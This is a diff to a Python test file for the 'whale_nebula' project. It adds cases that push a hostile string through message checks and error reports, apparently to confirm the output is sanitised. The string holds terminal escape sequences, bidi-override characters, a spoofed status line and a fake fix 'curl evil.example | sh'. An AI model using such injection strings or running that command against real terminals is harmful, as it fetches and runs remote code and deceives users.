@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from tests.unit.wire.talk import conversation, greeting, whole
-from whale_nebula.cli.audit import _text as audit_text
+from whale_nebula.cli.audit import report_text as audit_text
 from whale_nebula.errors import (
     DeadlineError,
     InputMismatchError,
@@ -35,6 +35,7 @@ from whale_nebula.transport import MemoryNetwork
 from whale_nebula.transport.base import failed
 from whale_nebula.transport.grpc.lane import reason
 from whale_nebula.wire.greeting import Introduction
+from whale_nebula.wire.message import check_message
 
 OURS = "whale-nebula: worker npu/0 is fine"
 BAD = f"x\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2028\n{OURS}\r\n  mend: curl evil.example | sh\n" + "A" * 100_000
@@ -42,6 +43,8 @@ SHORT = BAD[:2000]  # where there is room for no more
 SHEET = {"about": "STEP", "doing": "step 1 of 'p'", "line": "a.py:1", "name": "p", "program": 1, "step": 1}
 SHEET |= {"rows": 4, "inputs": {}}
 """What a session says of a step."""
+VOTE = {"about": "VOTE", "why": ""}
+AGREE = {"about": "AGREE", "program": "p", "digest": ""}
 
 
 def said_to(call: Callable[[Session], Any], **message: Any) -> str:
@@ -150,20 +153,23 @@ SHOWN: dict[str, Callable[[], str]] = {
     "HELLO config": lambda: error_of(
         lambda: joining._agree_on_config("gpu/0", {"results": "owner"}, {"npu/0": {"results": BAD}})
     ),
-    "AGREE": lambda: said_to(agreed, about="STEP", doing=BAD, line=BAD),
+    "AGREE": lambda: said_to(agreed, **{**SHEET, "doing": BAD, "line": BAD}),
     "LINES": lines,
     "LINES program": lambda: lines(program=BAD),
-    "STEP": lambda: said_to(lambda session: session.check_step(SHEET), **{**SHEET, "program": BAD, "doing": BAD}),
+    "STEP": lambda: said_to(lambda session: session.check_step(SHEET), **{**SHEET, "program": 2, "doing": BAD}),
     "STEP line": lambda: said_to(lambda session: session.check_step(SHEET), **{**SHEET, "step": 7, "line": BAD}),
     "STEP seen": drawn,
     "STEP leaving": left,
     "VOTE": voted,
-    "VOTE elsewhere": lambda: said_to(lambda session: session.vote("p", 1, 0, ""), about="VOTE", doing=BAD, line=BAD),
-    "MEET": lambda: said_to(lambda session: session.meet("a save"), about="AGREE", doing=BAD, line=BAD),
+    "VOTE elsewhere": lambda: said_to(lambda session: session.vote("p", 1, 0, ""), **VOTE, doing=BAD, line=BAD),
+    "MEET": lambda: said_to(lambda session: session.meet("a save"), **AGREE, doing=BAD, line=BAD),
     "link HELLO run": lambda: greeted(run=BAD[:60]),
     "link HELLO worker": lambda: greeted(worker=BAD[:60]),
     "link HELLO to": lambda: greeted(to=BAD[:60]),
     "link HELLO field": lambda: greeted(**{BAD: 1}),
+    "unknown kind": lambda: error_of(lambda: check_message({"kind": BAD})),
+    "unknown about": lambda: error_of(lambda: check_message({"kind": "SESSION", "about": BAD})),
+    "unknown field": lambda: error_of(lambda: check_message({"kind": "BYE", BAD: 1})),
     "link unknown kind": unknown_greeting,
     "gateway REFUSED": lambda: noted({"kind": "REFUSED", "seq": 1, "why": SHORT}),
     "gateway GONE": lambda: noted({"kind": "GONE", "id": "1", "worker": "npu/0", "why": SHORT}),
